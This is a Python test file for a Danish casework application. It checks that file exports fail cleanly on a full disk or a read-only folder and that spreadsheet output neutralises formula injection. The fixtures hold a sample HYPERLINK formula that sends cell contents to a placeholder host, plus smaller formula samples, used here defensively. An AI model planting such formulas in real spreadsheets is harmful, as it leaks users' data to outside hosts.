"""Writing files where it cannot be done: a full disk or a read-only folder gives a calm Danish
message and leaves nothing half-written (no torn file, no temporary file, an earlier file kept,
no audit event for an export that did not happen); formula-looking text is neutralised in every
spreadsheet Min Plan writes."""

from __future__ import annotations

import csv
import errno
import io
import os
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import select

from app.casework.bundle.exporter import export_bundle
from app.casework.bundle.importer import import_bundle
from app.casework.citizens.citizens import create_citizen
from app.casework.conversations.calendar_export import export_calendar
from app.casework.conversations.conversations import book_conversation
from app.casework.core.actor import Actor
from app.casework.plan.plan import save_plan
from app.casework.plan.plan_printing import save_plan_pdf
from app.cli import main
from app.domain.errors import FileWriteError
from app.i18n import translate_error
from app.reports.safe_cells import FORMULA_STARTS
from app.store import files
from app.store.engine import Database, transaction
from app.store.models import AuditEvent, Caseworker, Plan
from tests.conftest import cli_args

TODAY = date(2026, 11, 23)
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Klik")'


class _FullDisk(io.FileIO):
    """A file on a disk with room for 100 more bytes."""

    room = 100

    def write(self, data) -> int:  # type: ignore[no-untyped-def, override]
        if len(data) > self.room:
            super().write(bytes(data[: self.room]))
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        self.room -= len(data)
        return super().write(data)


@pytest.fixture
def full_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        files, "open_temporary", lambda path: io.BufferedWriter(_FullDisk(path, "wb"))
    )


@pytest.fixture
def read_only(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(path: Path):  # type: ignore[no-untyped-def]
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))

    monkeypatch.setattr(files, "open_temporary", refuse)


@pytest.fixture
def karen(db: Database, monkeypatch: pytest.MonkeyPatch) -> Actor:
    """The administrator (the whole-database bundle is hers to export), signed in as "kl"."""
    monkeypatch.setattr("app.casework.core.actor.os_user", lambda: "kl")
    with transaction(db) as s:
        worker = Caseworker(initials="KL", name="Karen Lund", team="Team Job", role="admin")
        s.add(worker)
        s.flush()
        return Actor(worker.id, "KL", "Karen Lund", "admin", "kl")


@pytest.fixture
def citizen(db: Database, karen: Actor) -> int:
    """Åse's own words look like a formula (she or anybody may type that)."""
    åse = create_citizen(
        db, karen, {"cpr": "150390-1234", "first_name": "Åse", "last_name": "Ørsted"}, today=TODAY
    ).id
    save_plan(db, karen, åse, None, {"job_goal": "Butik", "own_words": FORMULA}, today=TODAY)
    when = datetime.combine(TODAY, datetime.min.time()).replace(hour=10)
    book_conversation(db, karen, åse, when)
    return åse


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An empty folder for the exports (the database lives in ``tmp_path``)."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def actions(db: Database) -> list[str]:
    with transaction(db) as s:
        return [e.action for e in s.exec(select(AuditEvent)).all()]


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_a_plan_pdf_on_a_full_disk_leaves_the_earlier_file_and_is_not_marked_printed(
    db: Database, karen: Actor, citizen: int, out: Path, full_disk: None
) -> None:
    target = out / "plan.pdf"
    target.write_bytes(b"the plan printed last week")
    before = actions(db)
    with pytest.raises(FileWriteError) as full:
        save_plan_pdf(db, karen, citizen, target, today=TODAY)
    assert "Disken er fuld" in translate_error(full.value) and str(target) in translate_error(
        full.value
    )
    assert target.read_bytes() == b"the plan printed last week"
    # the plan was read (logged, issue 15 line 5); it was not marked printed
    assert leftovers(out) == ["plan.pdf"] and actions(db) == [*before, "view"]


def test_a_calendar_file_in_a_read_only_folder(
    db: Database, karen: Actor, citizen: int, out: Path, read_only: None
) -> None:
    with pytest.raises(FileWriteError) as denied:
        export_calendar(
            db, karen, karen.caseworker_id, TODAY, TODAY + timedelta(days=7), out / "k.ics"
        )
    assert "skrivebeskyttet" in translate_error(denied.value)
    assert leftovers(out) == []


def test_an_indicator_export_on_a_full_disk_is_not_recorded(
    db_args: list[str],
    db: Database,
    actor: Actor,
    out: Path,
    full_disk: None,
    capsys: pytest.CaptureFixture,
) -> None:
    target = out / "indikatorer.xlsx"
    args = ["indicators", "--plan", "herlev-2024", "--period", "2026-Q1", *db_args]
    assert main([*args, "--format", "xlsx", "--out", str(target)]) == 2
    assert "Disken er fuld" in capsys.readouterr().err
    assert leftovers(out) == [] and "export_indicators" not in actions(db)


def test_a_bundle_export_on_a_full_disk_keeps_the_earlier_bundle_whole(
    db_args: list[str],
    db: Database,
    karen: Actor,
    citizen: int,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    folder = tmp_path / "bundle"
    export_bundle(db, karen, folder)
    earlier = {p.name: p.read_bytes() for p in folder.iterdir()}
    create_citizen(
        db, karen, {"cpr": "010185-4321", "first_name": "Bo", "last_name": "Hansen"}, today=TODAY
    )
    exports = actions(db).count("export")
    monkeypatch.setattr(
        files, "open_temporary", lambda path: io.BufferedWriter(_FullDisk(path, "wb"))
    )
    assert main(["export", str(folder), *db_args]) == 2
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == earlier
    assert actions(db).count("export") == exports


def test_the_cli_says_a_folder_is_read_only(
    db_args: list[str],
    db: Database,
    citizen: int,
    out: Path,
    read_only: None,
    capsys: pytest.CaptureFixture,
) -> None:
    target = out / "plan.pdf"
    args = ["plan-pdf", "--cpr", "150390-1234", "--out", str(target), *db_args]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.startswith("Fejl:") and "skrivebeskyttet" in err and "Traceback" not in err
    assert leftovers(out) == []


@pytest.mark.gui
def test_the_calendar_dialog_says_the_disk_is_full(
    qtbot, db: Database, karen: Actor, citizen: int, out: Path, full_disk: None
) -> None:
    from app.ui.casework.context import UiContext
    from app.ui.worklist.calendar_dialog import CalendarDialog

    dialog = CalendarDialog(UiContext(db, karen, lambda: TODAY))
    qtbot.addWidget(dialog)
    dialog.show()
    dialog.path.setText(str(out / "k.ics"))
    dialog.try_save()
    assert "Disken er fuld" in dialog.banner.text() and dialog.banner.isVisible()
    assert dialog.result_value is None and leftovers(out) == []


# --- formula injection ---------------------------------------------------------------------------


def test_the_bundle_neutralises_formulas_for_spreadsheets_and_reads_them_back_exactly(
    db: Database, karen: Actor, citizen: int, tmp_path: Path
) -> None:
    folder = tmp_path / "bundle"
    export_bundle(db, karen, folder)
    for name in os.listdir(folder):
        with (folder / name).open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle, delimiter=";"):
                assert not any(cell.startswith(FORMULA_STARTS) for cell in row), (name, row)
    assert "'" + FORMULA in (folder / "plans.csv").read_text(encoding="utf-8").replace('""', '"')
    with transaction(db) as s:
        s.exec(select(Plan)).one().own_words = "changed"
    from app.casework.bundle.format import SPECS
    from app.casework.bundle.reader import CsvTable, open_rows

    problems: list = []
    table = CsvTable(folder / "plans.csv", "plans.csv")
    [plan] = list(open_rows(table, SPECS["plans.csv"], problems) or ())
    assert not problems and plan.values["own_words"] == FORMULA


def test_an_apostrophe_typed_before_a_formula_in_a_spreadsheet_is_dropped_on_import(
    db: Database, actor: Actor, tmp_path: Path
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "citizens.csv").write_text(
        "cpr;first_name;last_name;address\n150390-1234;Åse;Ørsted;'=1+1 Hovedgaden\n",
        encoding="utf-8",
    )
    report = import_bundle(db, actor, folder, today=TODAY)
    assert report.ok, report.error_lines()
    from app.store.models import Citizen

    with transaction(db) as s:
        assert s.exec(select(Citizen.address)).one() == "=1+1 Hovedgaden"


def test_the_deadlines_csv_neutralises_text_from_rule_files(
    db_args: list[str],
    db: Database,
    karen: Actor,
    citizen: int,
    capsys: pytest.CaptureFixture,
    monkeypatch,
) -> None:
    monkeypatch.setattr(
        "app.wording.deadline_text.explain", lambda deadline: '=HYPERLINK("x")', raising=True
    )
    from app.casework.benefits.spells import start_spell

    start_spell(db, karen, citizen, {"target_group": "dagpenge", "start_date": TODAY})
    assert main(["deadlines", *db_args, "--format", "csv", "--as-of", "2026-12-01"]) == 0
    out = capsys.readouterr().out.removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(out), delimiter=";"))
    assert rows and all(r["explanation"] == '\'=HYPERLINK("x")' for r in rows)


@given(st.text())
def test_the_bundles_escaping_is_safe_and_exactly_reversible(text: str) -> None:
    from app.reports.safe_cells import neutralise_reversibly, restore

    escaped = neutralise_reversibly(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert restore(escaped) == text


def _export(kind: str, db: Database, karen: Actor, citizen: int, out: Path) -> None:
    if kind == "pdf":
        save_plan_pdf(db, karen, citizen, out / "plan.pdf", today=TODAY)
    elif kind == "ics":
        export_calendar(
            db, karen, karen.caseworker_id, TODAY, TODAY + timedelta(days=7), out / "k.ics"
        )
    elif kind == "bundle":
        export_bundle(db, karen, out / "bundle")
    else:
        args = ["indicators", "--plan", "herlev-2024", "--period", "2026-Q1", *cli_args(db)]
        if main([*args, "--format", kind, "--out", str(out / f"i.{kind}")]) == 2:
            raise FileWriteError("the CLI said so")


@pytest.mark.parametrize("kind", ["pdf", "xlsx", "csv", "ics", "bundle"])
@pytest.mark.parametrize("trouble", ["full_disk", "read_only"])
def test_every_export_fails_whole_on_a_full_disk_or_a_read_only_folder(
    db_args: list[str],
    request: pytest.FixtureRequest,
    db: Database,
    karen: Actor,
    citizen: int,
    out: Path,
    kind: str,
    trouble: str,
) -> None:
    request.getfixturevalue(trouble)
    with pytest.raises(FileWriteError):
        _export(kind, db, karen, citizen, out)
    left = [p for p in out.rglob("*") if p.is_file()]
    assert left == [], left
